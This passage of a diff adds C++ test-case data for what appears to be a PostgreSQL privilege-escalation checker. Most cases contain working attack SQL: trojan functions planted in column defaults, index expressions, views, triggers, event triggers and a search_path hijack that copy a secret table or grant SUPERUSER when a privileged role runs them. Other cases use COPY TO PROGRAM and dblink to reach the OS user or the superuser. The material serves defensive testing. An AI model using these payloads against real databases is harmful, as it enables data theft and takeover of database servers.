+GRANT SELECT ON s.t TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+)x",
+             .to = "{r}boss",
+             .does = R"x(CREATE POLICY x ON s.t USING (s.steal() > 0);
+ALTER TABLE s.t ENABLE ROW LEVEL SECURITY;)x",
+             .victim_is = "{r}boss",
+             .victim = "TABLE s.t;",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "DROP POLICY IF EXISTS x ON s.t; TRUNCATE s.loot;"},
+            {.id = "ESC-DEFAULT",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+GRANT INSERT ON s.t TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+)x",
+             .to = "{r}boss",
+             .does = "ALTER TABLE s.t ALTER COLUMN b SET DEFAULT s.steal();",
+             .victim_is = "{r}boss",
+             .victim = "INSERT INTO s.t (a) VALUES (2);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "ALTER TABLE s.t ALTER COLUMN b DROP DEFAULT; TRUNCATE s.loot;"},
+            {.id = "ESC-INDEX-EXPR",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+GRANT INSERT ON s.t TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+)x",
+             .to = "{r}boss",
+             .does = R"x(CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
+BEGIN PERFORM s.steal(); RETURN $1; EXCEPTION WHEN insufficient_privilege THEN RETURN $1; END $$;
+CREATE INDEX x ON s.t (s.odd(a));)x",
+             .victim_is = "{r}boss",
+             .victim = "INSERT INTO s.t VALUES (2);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset =
+                 "DROP INDEX IF EXISTS s.x; DROP FUNCTION IF EXISTS s.odd(int); TRUNCATE s.loot;"},
+            {.id = "ESC-VIEWCODE",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t; GRANT SELECT ON s.v TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t;)x",
+             .to = "{r}boss",
+             .does = "CREATE OR REPLACE VIEW s.v AS SELECT a FROM s.t WHERE s.steal() > 0;",
+             .victim_is = "{r}boss",
+             .victim = "TABLE s.v;",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "CREATE OR REPLACE VIEW s.v AS SELECT a FROM s.t; TRUNCATE s.loot;"},
+            {.id = "ESC-DATABASE",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC; ALTER DATABASE {db} OWNER TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+ALTER DATABASE {db} SET search_path = s, pg_catalog;)x",
+             .victim_is = "{super}",
+             .victim = "SELECT lower('X'::varchar);",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER ROLE {r}app NOSUPERUSER; ALTER DATABASE {db} RESET search_path; DROP "
+                      "FUNCTION IF EXISTS s.lower(varchar);"},
+            {.id = "ESC-EXTENSION",
+             .since = 13,
+             .until = 18,
+             .extension = "hstore",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT CREATE ON DATABASE {db} TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app;)x",
+             .to = "the scripts of trusted extensions, run as the bootstrap superuser",
+             .does = R"x(BEGIN; CREATE EXTENSION hstore SCHEMA s;
+SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;
+ROLLBACK;)x"},
+            {.id = "ESC-EVENTTRIGGER",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
+ALTER FUNCTION s.f() OWNER TO {r}app; CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION s.f();)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
+CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION s.f();)x",
+             .to = "superuser",
+             .does =
+                 R"x(CREATE OR REPLACE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS $$
+BEGIN IF current_setting('is_superuser')::bool THEN UPDATE pg_authid SET rolsuper = true WHERE rolname = '{r}app'; END IF; END $$;)x",
+             .victim_is = "{super}",
+             .victim = "CREATE TABLE public.x (a int);",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER EVENT TRIGGER watch DISABLE; CREATE OR REPLACE FUNCTION s.f() RETURNS "
+                      "event_trigger LANGUAGE plpgsql AS 'BEGIN END'; ALTER EVENT TRIGGER watch "
+                      "ENABLE; DROP TABLE public.x; ALTER ROLE {r}app NOSUPERUSER;"},
+            {.id = "ESC-REPLACEFUNC",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.tax() OWNER TO {r}app;
+GRANT USAGE ON SCHEMA s TO {r}boss;
+CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ SELECT s.tax() $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.tax() OWNER TO {r}boss;
+GRANT USAGE ON SCHEMA s TO {r}boss;
+CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ SELECT s.tax() $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
+)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE OR REPLACE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
+SELECT 'gained' WHERE safe.vip() = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-REPLACEFUNC",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.stamp() OWNER TO {r}app; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); ALTER TABLE public.u OWNER TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
+GRANT SELECT ON public.secret TO {r}boss;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+SET ROLE {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
+CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
+CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
+CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
+RESET ROLE;
+CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); ALTER TABLE public.u OWNER TO {r}boss;)x",
+             .to = "{r}boss",
+             .does = "CREATE OR REPLACE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS "
+                     "'BEGIN PERFORM s.steal(); RETURN NEW; END';",
+             .victim_is = "{r}boss",
+             .victim = "INSERT INTO public.u VALUES (1);",
+             .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
+             .reset = "CREATE OR REPLACE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS "
+                      "'BEGIN RETURN NEW; END'; TRUNCATE s.loot;"},
+            {.id = "ESC-VIEW",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE VIEW public.v AS SELECT a FROM public.secret;)x",
+             .to = "what the owner of a view or rule reads or writes by it",
+             .does = "TABLE public.v;"},
+            {.id = "ESC-VIEW",
+             .since = 15,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE VIEW public.v WITH (security_invoker = true) AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+             .to = "what the owner of a view or rule reads or writes by it",
+             .does = "TABLE public.v;"},
+            {.id = "ESC-MATVIEW",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
+CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret;)x",
+             .to = "what the owner of a view or rule reads or writes by it",
+             .does = "TABLE public.v;"},
+            {.id = "ESC-RULE",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); CREATE TABLE public.t (a text); CREATE RULE r AS ON INSERT TO public.t DO INSTEAD INSERT INTO public.secret VALUES (NEW.a);
+GRANT INSERT ON public.t TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE TABLE public.secret (a text); CREATE TABLE public.t (a text); CREATE RULE r AS ON INSERT TO public.t DO INSTEAD INSERT INTO public.secret VALUES (NEW.a);
+GRANT SELECT ON public.t TO {r}app;)x",
+             .to = "what the owner of a view or rule reads or writes by it",
+             .does = R"x(INSERT INTO public.t VALUES ('gained');
+\! psql -X -q -At -d '{where} user={super} dbname={db}' -c 'TABLE public.secret')x",
+             .reset = "TRUNCATE public.secret;"},
+            {.id = "ESC-UNTRUSTED-LANG",
+             .since = 12,
+             .until = 18,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE LANGUAGE plany HANDLER plpgsql_call_handler;
+CREATE FUNCTION public.run(what text) RETURNS void LANGUAGE plany SECURITY DEFINER AS $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', what); END $$;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE LANGUAGE plany HANDLER plpgsql_call_handler;
+CREATE FUNCTION public.run(what text) RETURNS void LANGUAGE plany SECURITY DEFINER AS $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', what); END $$; REVOKE EXECUTE ON FUNCTION public.run(text) FROM PUBLIC;)x",
+             .to = "the server's operating-system user",
+             .does = R"x(SELECT public.run('cat > {data}/{db}.written');
+CREATE FUNCTION pg_temp.mine() RETURNS void LANGUAGE plany AS 'BEGIN END';)x",
+             .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
+            {.id = "ESC-WRITE-CATALOG",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT UPDATE (rolsuper), SELECT (rolname) ON pg_authid TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT UPDATE, INSERT, DELETE ON pg_authid TO {r}app; GRANT SELECT (rolname) ON pg_authid TO {r}app;)x",
+             .to = "superuser",
+             .does = R"x(BEGIN; UPDATE pg_authid SET rolsuper = true WHERE rolname = '{r}app';
+SELECT 'gained' FROM pg_roles WHERE rolname = '{r}app' AND rolsuper;
+ROLLBACK;)x"},
+            {.id = "ESC-USERMAP",
+             .since = 12,
+             .until = 18,
+             .extension = "postgres_fdw",
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
+CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); GRANT USAGE ON FOREIGN SERVER back TO {r}app; CREATE USER MAPPING FOR PUBLIC SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
+CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); CREATE USER MAPPING FOR PUBLIC SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE FOREIGN TABLE s.there (a text) SERVER back OPTIONS (schema_name 'public', table_name 'secret');
+TABLE s.there;
+ROLLBACK;)x"},
+            {.id = "ESC-FDW-LOOP",
+             .since = 12,
+             .until = 18,
+             .extension = "dblink",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text, text) TO {r}app; GRANT USAGE ON SCHEMA public TO PUBLIC;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE EXTENSION dblink; GRANT USAGE ON SCHEMA public TO PUBLIC;)x",
+             .to = "{super}",
+             .does = R"x(SELECT public.dblink_connect_u('c', '{where} dbname={db} user={super}');
+SELECT 'gained' FROM public.dblink('c', 'SELECT 1 FROM pg_authid LIMIT 1') AS there (a int);)x"},
+            {.id = "ESC-SUBSCRIPTION",
+             .since = 12,
+             .until = 15,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app;
+CREATE DATABASE {db}p;
+\connect {db}p
+CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
+\connect {db}
+CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app;
+CREATE DATABASE {db}p;
+\connect {db}p
+CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
+\connect {db}
+CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {super}; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
+)x",
+             .to = "{super}",
+             .does =
+                 R"x(CREATE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF current_setting('is_superuser')::bool THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN NEW; END $$;
+CREATE TRIGGER x BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION s.f();
+ALTER TABLE public.t ENABLE ALWAYS TRIGGER x;)x",
+             .victim_is = "{super}",
+             .victim =
+                 R"x(\! psql -X -q -d '{where} user={super} dbname={db}p' -c 'INSERT INTO public.t VALUES (1)'
+DO $$ BEGIN FOR i IN 1 .. 200 LOOP EXIT WHEN (SELECT count(*) > 0 FROM public.t); PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP TRIGGER IF EXISTS x ON public.t; DROP "
+                      "FUNCTION IF EXISTS s.f(); TRUNCATE public.t;"},
+            {.id = "ESC-SUBSCRIPTION",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app;
+CREATE DATABASE {db}p;
+\connect {db}p
+CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
+\connect {db}
+CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false, run_as_owner = true);
+)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app;
+CREATE DATABASE {db}p;
+\connect {db}p
+CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
+\connect {db}
+CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
+)x",
+             .to = "{super}",
+             .does =
